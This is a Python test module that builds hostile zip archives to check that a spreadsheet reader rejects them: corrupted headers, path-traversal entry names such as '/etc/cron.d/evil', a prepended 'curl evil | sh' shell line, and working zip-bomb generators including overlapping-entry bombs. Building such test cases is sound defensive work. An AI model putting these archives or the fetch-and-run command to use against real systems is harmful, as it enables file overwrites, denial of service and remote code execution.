"""Archives that lie, explode, hide or repeat: what a zip can do before any XML is read."""

from __future__ import annotations

import bz2
import lzma
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from random import Random

from tests.hostile.case import SAME, Build, Case, cases, refused
from tests.hostile.package import (
    BOOK,
    BUDGET,
    CUSTOM,
    DEFLATED,
    ENCRYPTED,
    RELS,
    SCRATCH,
    STORED,
    STRINGS,
    THEME,
    TYPES,
    End,
    Entry,
    Header,
    Lie,
    central_header,
    deflated,
    end_record,
    entries,
    good,
    instead,
    local_header,
    pack,
    padded,
    parts,
    says,
    spread,
    with_entry,
    with_parts,
)

MB = 1 << 20
_OTHER_AMOUNT = parts()[BUDGET].replace(b"<v>1000</v>", b"<v>9000</v>", 1)


# Damage: bytes that turned, sums and sizes that do not fit.


def _turned(name: str, at: float) -> Build:
    """One byte of a stored part's data turned, ``at`` a share of its length."""

    def build() -> bytes:
        def turn(entry: Entry) -> Entry:
            data = bytearray(entry.data)
            data[int(at * (len(data) - 1))] ^= 1
            return replace(entry, method=STORED, packed=bytes(data))

        return with_entry(name, turn)

    return build


def _wrong(lie: Lie, name: str = BUDGET) -> Build:
    """The same lie before the data and in the directory."""
    return lambda: with_entry(name, lambda entry: replace(entry, local=lie, central=lie))


def _in_header(lie: Lie, name: str = BUDGET) -> Build:
    return lambda: with_entry(name, lambda entry: replace(entry, local=lie))


def _in_directory(lie: Lie, name: str = BUDGET) -> Build:
    return lambda: with_entry(name, lambda entry: replace(entry, central=lie))


def _packed(change: Callable[[bytes], bytes]) -> Build:
    """Other compressed bytes under true sums."""
    return lambda: with_entry(BUDGET, lambda entry: replace(entry, packed=change(deflated(entry.data))))


DAMAGED: dict[str, Build] = {
    **{f"turned-{name.rpartition('/')[2]}": _turned(name, 0.5) for name in (TYPES, RELS, BOOK, BUDGET, STRINGS, THEME)},
    **{f"turned-first-byte-{name.rpartition('/')[2]}": _turned(name, 0) for name in (BUDGET, CUSTOM)},
    **{f"turned-last-byte-{name.rpartition('/')[2]}": _turned(name, 1) for name in (BUDGET, STRINGS)},
    "crc-wrong": _wrong(says(crc=1)),
    "crc-zero": _wrong(says(crc=0)),
    "crc-wrong-in-a-picture": lambda: pack(
        [*entries(), Entry("xl/media/image1.png", b"\x89PNG", local=says(crc=1), central=says(crc=1))]
    ),
    "size-one-less": _wrong(lambda header: replace(header, size=header.size - 1)),
    "size-one-more": _wrong(lambda header: replace(header, size=header.size + 1)),
    "size-zero": _wrong(says(size=0)),
    "deflate-cut": _packed(lambda packed: packed[:-10]),
    "deflate-empty": _packed(lambda packed: b""),
    "deflate-zeros": _packed(lambda packed: bytes(len(packed))),
    "deflate-random": _packed(lambda packed: Random(4).randbytes(len(packed))),
    "deflate-followed-by-bytes": _packed(lambda packed: packed + b"extra bytes"),
    "deflate-twice": _packed(lambda packed: packed + packed),
    "deflate-with-zlib-header": _packed(lambda packed: b"\x78\x9c" + packed),
    "stored-shorter-than-said": lambda: with_entry(
        BUDGET, lambda entry: replace(entry, method=STORED, packed=entry.data[:-1])
    ),
}
LYING: dict[str, Build] = {
    "crc-wrong-in-header": _in_header(says(crc=1)),
    "crc-wrong-in-directory": _in_directory(says(crc=1)),
    "size-wrong-in-header": _in_header(says(size=10)),
    "size-wrong-in-directory": _in_directory(says(size=10)),
    "size-huge-in-header": _in_header(says(size=0xFFFFFFFE)),
    "packed-wrong-in-header": _in_header(says(packed=10)),
    "packed-wrong-in-directory": _in_directory(says(packed=10)),
    "packed-beyond-the-file": _wrong(says(packed=0x7FFFFFFF)),
    "method-stored-in-header": _in_header(says(method=STORED)),
    "method-stored-in-directory": _in_directory(says(method=STORED)),
    "method-stored-in-both": _wrong(says(method=STORED)),
    "name-other-in-header": _in_header(says(name=b"xl/worksheets/sheet9.xml")),
    "name-longer-in-header": _in_header(says(name=BUDGET.encode() + b"x")),
    "name-empty-in-header": _in_header(says(name=b"")),
    "name-other-case-in-header": _in_header(says(name=BUDGET.upper().encode())),
    "flags-other-in-header": _in_header(says(flags=ENCRYPTED)),
    "flags-other-in-directory": _in_directory(says(flags=ENCRYPTED)),
    "two-names-changed-about": lambda: pack(
        [
            replace(one, local=says(name={BUDGET: SCRATCH, SCRATCH: BUDGET}.get(str(one.name), str(one.name)).encode()))
            for one in entries()
        ]
    ),
}


# Compressions and encryption.


def _by(method: int, packer: Callable[[bytes], bytes], name: str = BUDGET) -> Build:
    return lambda: with_entry(name, lambda entry: replace(entry, method=method, packed=packer(entry.data)))


def _lzma(data: bytes) -> bytes:
    packed = lzma.compress(data, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "preset": 6}])
    return b"\x09\x14\x05\0" + b"\x5d\0\0\x80\0" + packed


UNKNOWN_METHODS: dict[str, Build] = {
    "method-bzip2": _by(12, bz2.compress),
    "method-lzma": _by(14, _lzma),
    "method-deflate64": _by(9, deflated),
    "method-zstandard": _by(93, lambda data: b"\x28\xb5\x2f\xfd" + data),
    "shrunk": _by(1, lambda data: data),
    "method-65535": _by(65535, lambda data: data),
    "bzip2-of-a-part-not-read": _by(12, bz2.compress, THEME),
    "encrypted": _wrong(says(flags=ENCRYPTED)),
    "encrypted-a-part-not-read": _wrong(says(flags=ENCRYPTED), THEME),
    "strongly-encrypted": _wrong(says(flags=0x41)),
    "aes-encrypted": _wrong(says(flags=ENCRYPTED, method=99, extra=b"\x01\x99\x07\0\x02\0AE\x03\x08\0")),
    "directory-encrypted": _wrong(says(flags=0x2000)),
    "patch-data": _wrong(says(flags=0x20)),
}


# Names.


def _named(name: str | bytes, data: bytes = b"<x/>") -> Build:
    return lambda: pack([*entries(), Entry(name, data)])


def _instead(old: str, new: str) -> Build:
    """A part under another name, by which its relationship does not know it."""
    return lambda: pack([replace(one, name=new) if one.name == old else one for one in entries()])


BAD_NAMES: dict[str, Build] = {
    "parent": _named("../evil.xml"),
    "parent-inside": _named("xl/../../evil.xml"),
    "parent-at-the-end": _named("xl/.."),
    "parent-by-backslash": _named("..\\evil.xml"),
    "backslash": _named("xl\\worksheets\\sheet9.xml"),
    "backslash-twin": _named("xl\\worksheets\\sheet2.xml"),
    "leading-slash": _named("/xl/evil.xml"),
    "leading-slash-twin": _named("/" + BUDGET),
    "absolute": _named("/etc/cron.d/evil"),
    "share": _named("//server/share/evil.xml"),
    "drive": _named("C:/Windows/evil.xml"),
    "drive-relative": _named("c:evil.xml"),
    "nul": _named("xl/evil.xml\0.png"),
    "nul-twin": _named(BUDGET + "\0"),
    "empty": _named(b""),
    "dot": _named("./" + BUDGET, _OTHER_AMOUNT),
    "dot-inside": _named("xl/./worksheets/sheet2.xml", _OTHER_AMOUNT),
    "double-slash": _named("xl//worksheets/sheet2.xml", _OTHER_AMOUNT),
    "twice": _named(BUDGET),
    "twice-with-other-amounts": lambda: pack([*entries(), Entry(BUDGET, _OTHER_AMOUNT)]),
    "twice-with-other-amounts-before": lambda: pack([Entry(BUDGET, _OTHER_AMOUNT), *entries()]),
    "twice-content-types": _named(TYPES),
    "other-case": lambda: pack([*entries(), Entry("XL/Worksheets/Sheet2.xml", _OTHER_AMOUNT)]),
    "other-case-content-types": _named(TYPES.lower()),
    "case-folded": _named("xl/work\u017fheets/sheet2.xml"),
    "percent-encoded": lambda: pack([*entries(), Entry("xl/worksheets/sheet%32.xml", _OTHER_AMOUNT)]),
    "name-with-control-characters": _named("xl/\x1b[2Jevil.xml"),
    "new-line": _named("xl/evil\n.xml"),
}
"""``*-twin``: programs that clean names read it instead of the budget sheet."""
ODD_NAMES: dict[str, Build] = {
    "other-script": _named("xl/media/图片.xml"),
    "other-script-without-flag": _named("xl/media/图片.xml".encode("gbk")),
    "composed-and-decomposed": lambda: pack([*entries(), Entry("xl/é.xml", b"<x/>"), Entry("xl/e\u0301.xml", b"<x/>")]),
    "full-width": _named("xl/worksheets/ｓheet2.xml"),
    "right-to-left": _named("xl/\u202egnp.xml"),
    "reserved": _named("xl/media/con.xml"),
    "trailing-dot": _named(BUDGET + "."),
    "trailing-space": _named(BUDGET + " "),
    "of-a-mac": _named("__MACOSX/._sheet2.xml"),
    "thumbs": _named("Thumbs.db"),
}
"""Of no harm here; refusing them and ignoring them are both right."""


# Bytes around and between, records of the directory.


def _hidden(name: str, data: bytes) -> Entry:
    return Entry(name, data, listed=False)


def _end(**fields: object) -> Build:
    return lambda: pack(entries(), end=lambda end: replace(end, **fields))  # type: ignore[arg-type]


def _zip64(**fields: int) -> Build:
    """A 64-bit end record and its locator, which the plain end record refers to."""

    def build() -> bytes:
        plain = pack(entries())
        body, end = plain[:-22], plain[-22:]
        count, size, offset = struct.unpack_from("<H2I", end, 10)
        said = {"count": count, "size": size, "offset": offset, "at": len(body), **fields}
        record = struct.pack(
            "<4sQHHII4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, *[said["count"]] * 2, said["size"], said["offset"]
        )
        locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, said["at"], 1)
        return body + record + locator + end_record(End(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF))

    return build


def _zip64_sizes(packed: int, size: int) -> Lie:
    extra = struct.pack("<HHQQ", 1, 16, size, packed)
    return says(size=0xFFFFFFFF, packed=0xFFFFFFFF, extra=extra, version=45)


def _other_book() -> bytes:
    return pack([replace(one, data=_OTHER_AMOUNT) if one.name == BUDGET else one for one in entries()])


AROUND: dict[str, Build] = {
    "bytes-before": lambda: pack(entries(), before=b"\0" * 100),
    "bytes-before-not-counted": lambda: pack(entries(), before=b"\0" * 100, shifted=False),
    "program-before": lambda: pack(entries(), before=b"MZ" + bytes(510)),
    "script-before": lambda: pack(entries(), before=b"#!/bin/sh\nexec curl evil | sh\n"),
    "bytes-after": lambda: pack(entries(), after=b"\0" * 100),
    "a-byte-after": lambda: pack(entries(), after=b"\n"),
    "html-after": lambda: pack(entries(), after=b"<html><script>"),
    "bytes-between": lambda: pack(entries(), between=b"hidden bytes"),
    "a-part-between-that-is-not-listed": lambda: pack([_hidden(BUDGET, _OTHER_AMOUNT), *entries()]),
    "a-part-at-the-end-that-is-not-listed": lambda: pack([*entries(), _hidden(BUDGET, _OTHER_AMOUNT)]),
    "two-archives": lambda: _other_book() + good(),
    "two-archives-in-a-comment": lambda: pack(entries(), comment=_other_book()[-60_000:]),
    "comment-shorter-than-said": lambda: pack(entries(), comment=b"ab", end=lambda end: replace(end, comment_size=50)),
    "comment-longer-than-said": lambda: pack(
        entries(), comment=b"abcdef", end=lambda end: replace(end, comment_size=2)
    ),
}
RECORDS: dict[str, Build] = {
    "disk-1": _end(disk=1),
    "directory-on-disk-1": _end(first_disk=1),
    "entry-on-disk-1": _in_directory(says(disk=1)),
    "entries-here-fewer": _end(here=1),
    "count-one-less": lambda: pack(entries(), end=lambda end: replace(end, count=end.count - 1)),
    "count-one-more": lambda: pack(entries(), end=lambda end: replace(end, count=end.count + 1)),
    "count-zero": _end(count=0),
    "directory-size-zero": _end(size=0),
    "directory-size-huge": _end(size=0x7FFFFFFF),
    "directory-offset-zero": _end(offset=0),
    "directory-offset-beyond": _end(offset=0x7FFFFFFF),
    "entry-offset-beyond": _in_directory(says(offset=0x7FFFFFFF)),
    "entry-offset-off-by-one": _in_directory(lambda header: replace(header, offset=header.offset + 1)),
    "entry-offset-of-another": _in_directory(says(offset=0)),
    "entry-offset-in-the-directory": lambda: pack(
        [*entries(), Entry("xl/x.xml", here=False, central=says(offset=len(good()) - 100))]
    ),
    "zip64-end-off-by-one": _zip64(offset=1),
    "zip64-count-wrong": _zip64(count=1),
    "zip64-count-huge": _zip64(count=1 << 60),
    "zip64-size-huge": _zip64(size=1 << 62),
    "zip64-offset-huge": _zip64(offset=1 << 62),
    "zip64-locator-beyond": _zip64(at=1 << 60),
    "zip64-locator-to-itself": _zip64(at=0),
    "zip64-sizes-huge": _wrong(_zip64_sizes(1 << 60, 1 << 60)),
    "zip64-sizes-negative": _wrong(_zip64_sizes((1 << 64) - 1, (1 << 64) - 1)),
    "zip64-sizes-without-extra": _wrong(says(size=0xFFFFFFFF, packed=0xFFFFFFFF)),
    "zip64-extra-too-short": _wrong(says(size=0xFFFFFFFF, extra=b"\x01\0\x04\0abcd")),
    "extra-longer-than-there-is": _wrong(says(extra=b"\x01\0\xff\xff")),
    "unicode-name-other": _wrong(
        says(
            extra=b"\x75\x70\x1e\0\x01" + struct.pack("<I", zlib.crc32(BUDGET.encode())) + b"xl/worksheets/sheet9.xml "
        )
    ),
}


# Bombs.


@cache
def _mixed() -> bytes:
    """A megabyte that deflates about 50 times smaller: below the ratio that betrays a bomb."""
    random = Random(5)
    return b"".join(random.randbytes(512) + bytes(32_256) for _ in range(32))


def _white() -> bytes:
    """The same of white space."""
    return _mixed().translate(bytes(b" \n\t\r"[number % 4] for number in range(256)))


def _media(name: str, megabytes: int) -> Entry:
    return spread(f"xl/media/{name}.png", bytes(MB), megabytes)


def _mixed_media(name: str, megabytes: int) -> Entry:
    return spread(f"xl/media/{name}.png", _mixed(), megabytes)


def _nested(depth: int) -> bytes:
    data = pack([Entry("xl/media/a.png", bytes(1_000_000))])
    for _ in range(depth):
        data = pack([Entry("xl/media/a.zip", data)])
    return data


def _many(count: int) -> bytes:
    return pack([*entries(), *(Entry(f"customXml/item{number}.xml", b"<x/>") for number in range(count))])


def _overlapping(count: int, size: int) -> bytes:
    """Entries that share one compressed body, each quoting the headers behind it as stored data (Fifield, 2019)."""
    kernel = bytes(size)
    body, whole, listed = deflated(kernel), kernel, list[tuple[Header, int]]()
    for number in reversed(range(count)):
        name = f"xl/media/{number:04d}.png".encode()
        header = Header(name, 0, DEFLATED, zlib.crc32(whole), len(body), len(whole))
        shown = local_header(header)
        listed.append((header, len(body)))
        length = len(shown)
        whole = shown + whole
        body = b"\0" + struct.pack("<HH", length, length ^ 0xFFFF) + shown + body
    first = body[5:]
    plain = pack(entries())
    count_before, _, offset_before = struct.unpack_from("<H2I", plain, len(plain) - 12)
    body_before, directory = plain[:offset_before], plain[offset_before:-22]
    end = len(body_before) + len(first)
    for header, packed in reversed(listed):
        at = end - packed - len(local_header(header))
        directory += central_header(replace(header, offset=at))
    return body_before + first + directory + end_record(End(count_before + count, len(directory), end))


def _shared(count: int) -> bytes:
    """Many names in the directory for one body."""
    bomb = _media("a", 1)
    header = bomb.central(Header(b"", 0, DEFLATED, 0, len(bomb.packed or b""), 0))
    truth = says(crc=header.crc, size=header.size, packed=header.packed, offset=0)
    again = [Entry(f"xl/media/{number}.png", here=False, central=truth) for number in range(count)]
    return pack([bomb, *entries(), *again])


BOMBS: dict[str, Build] = {
    "ratio-in-a-picture": lambda: pack([*entries(), _media("a", 2)]),
    "ratio-in-a-sheet": lambda: padded(SCRATCH, "<sheetData>", b" " * MB, 3),
    "ratio-in-strings": lambda: padded(STRINGS, "</sst>", b"<si/>" * 100_000, 5),
    "ratio-in-content-types": lambda: padded(TYPES, "</Types>", b" " * MB, 3),
    "ratio-in-a-part-that-nobody-names": lambda: pack([*entries(), spread("xl/nobody.xml", b" " * MB, 3)]),
    "part-of-65-mb": lambda: pack([*entries(), _mixed_media("a", 65)]),
    "part-of-65-mb-in-a-sheet": lambda: padded(SCRATCH, "<sheetData>", _white(), 65),
    "part-of-500-mb": lambda: pack([*entries(), _media("a", 500)]),
    "part-of-3-gb": lambda: pack([*entries(), _claimed("a", 3_000)]),
    "three-parts-of-50-mb": lambda: pack([*entries(), *(_mixed_media(str(n), 50) for n in range(3))]),
    "entries-1001": lambda: _many(1_001),
    "entries-20000": lambda: pack([*entries(), *(Entry(f"x/{n}", b"", STORED) for n in range(20_000))]),
    "file-of-11-mb": lambda: pack([*entries(), Entry("xl/media/a.png", Random(6).randbytes(11 * MB), STORED)]),
    "file-of-25-mb": lambda: pack([*entries(), Entry("xl/media/a.png", bytes(25 * MB), STORED)]),
}


def _claimed(name: str, megabytes: int) -> Entry:
    """True in its size and not in its sum, which nobody should live to see."""
    bomb, size = _media(name, 1), says(size=megabytes * MB)
    packed = (bomb.packed or b"")[:-2] * megabytes
    return replace(bomb, packed=packed, local=size, central=size)


_SMALL = says(size=100)
SLY_BOMBS: dict[str, Build] = {
    "size-said-small": lambda: pack([*entries(), replace(_media("a", 30), local=_SMALL, central=_SMALL)]),
    "size-said-small-in-a-sheet": lambda: pack(
        instead(replace(spread(SCRATCH, b" " * MB, 30, parts()[SCRATCH]), local=_SMALL, central=_SMALL))
    ),
    "size-said-small-streamed": lambda: pack([*entries(), replace(_media("a", 30), descriptor=True, central=_SMALL)]),
    "overlapping": lambda: _overlapping(60, MB),
    "overlapping-900": lambda: _overlapping(900, MB // 4),
    "one-body-for-many-names": lambda: _shared(200),
}
"""Refused for the lie or for the size, whichever is seen first."""


# Odd but legal.


def _streamed() -> bytes:
    return pack([replace(one, descriptor=True) for one in entries()])


def _noted(*extra: bytes) -> bytes:
    """Time stamps and Unix ids in extra fields, as other zip programs write them."""
    lie = says(extra=b"".join(extra))
    return pack([replace(one, local=lie, central=lie) for one in entries()])


LEGAL: dict[str, Build] = {
    "as-issued": good,
    "written-anew": lambda: pack(entries()),
    "stored": lambda: pack([replace(one, method=STORED) for one in entries()]),
    "streamed": _streamed,
    "streamed-and-stored-in-part": lambda: pack(
        [replace(one, descriptor=True, method=STORED if one.name == THEME else DEFLATED) for one in entries()]
    ),
    "least-compressed": lambda: pack([replace(one, strategy=zlib.Z_HUFFMAN_ONLY) for one in entries()]),
    "parts-in-another-order": lambda: pack(entries()[::-1]),
    "unicode-flag": lambda: pack(
        [replace(one, local=says(flags=0x800), central=says(flags=0x800)) for one in entries()]
    ),
    "compression-level-flags": lambda: pack(
        [replace(one, local=says(flags=6), central=says(flags=6)) for one in entries()]
    ),
    "extra-fields": lambda: _noted(b"\x55\x54\x05\0\x01abcd", b"ux\x0b\0\x01\x04abcd\x04abcd"),
    "padding-of-excel": lambda: pack(
        [replace(one, local=says(extra=b"\x20\xa2\x04\0\x28\xa0\0\0")) for one in entries()]
    ),
    "folders": lambda: pack([*(Entry(name, b"", STORED) for name in ("xl/", "_rels/", "docProps/")), *entries()]),
    "empty-picture": lambda: with_parts({"xl/media/image1.png": b""}),
    "pictures-of-120-mb": lambda: pack([*entries(), *(_mixed_media(str(n), 60) for n in range(2))]),
    "theme-of-60-mb": lambda: padded(THEME, "</a:theme>", _white(), 60),
}
UNUSUAL: dict[str, Build] = {
    "comment": lambda: pack(entries(), comment=b"made by a zip program"),
    "zip64-end": _zip64(),
    "zip64-sizes": lambda: pack([replace(one, local=_zip64_true, central=_zip64_true) for one in entries()]),
    "needs-version-63": _wrong(says(version=63)),
}
"""Legal, though Excel may not open it: reading and refusing are both right."""


def _zip64_true(header: Header) -> Header:
    return _zip64_sizes(header.packed, header.size)(header)


# Any byte of the archive's own records turned: refused, or read as it was sent.


def _flipped(at: int) -> Build:
    def build() -> bytes:
        data = bytearray(good())
        data[at] ^= 0x20
        return bytes(data)

    return build


def _flips() -> dict[str, Build]:
    random = Random(7)
    start = good().index(b"PK\x01\x02")
    places = sorted(random.sample(range(start), 15) + random.sample(range(start, len(good())), 25))
    return {f"bit-at-{at}": _flipped(at) for at in places}


def all_cases() -> Iterator[Case]:
    yield from cases("damaged", refused("F102"), DAMAGED)
    # A lie found on the way may be told as a lie or as the damage that it leads to.
    yield from cases("lying headers", refused("F107", "F102"), LYING)
    yield from cases("unknown methods", refused("F107"), UNKNOWN_METHODS)
    yield from cases("names of parts", refused("F107"), BAD_NAMES)
    yield Case("names of parts", "over-long", _named("xl/" + "a" * 60_000), refused("F105", "F107", "F109"))
    yield Case("names of parts", "stream", _named("xl/evil.xml:hidden"), refused("F107", "F109"))
    yield from cases("names of parts", refused("F107", "F109") + SAME, ODD_NAMES)
    yield from cases("bytes around", refused("F107"), AROUND)
    yield Case("bytes around", "pdf-before", lambda: pack(entries(), before=b"%PDF-1.7\n"), refused("F101", "F107"))
    yield Case("bytes around", "html-before", lambda: pack(entries(), before=b"<html>"), refused("F101", "F107"))
    twice = {
        "two-end-records": lambda: pack(entries(), after=good()[-22:]),
        "end-record-in-the-comment": lambda: pack(entries(), comment=good()[-22:]),
    }
    yield from cases("bytes around", refused("F107", "F102"), twice)
    yield from cases("zip records", refused("F107", "F102", "F105"), RECORDS)
    yield from cases("bombs", refused("F105"), BOMBS)
    yield from cases("bombs", refused("F105", "F107", "F102"), SLY_BOMBS)
    yield Case(
        "bombs", "nested", lambda: pack([*entries(), Entry("xl/media/a.zip", _nested(20))]), refused("F109") + SAME
    )
    yield from cases("legal containers", SAME, LEGAL)
    yield from cases("legal containers", refused("F107") + SAME, UNUSUAL)
    yield from cases("turned bits", refused("F102", "F107", "F105", "F101") + SAME, _flips())
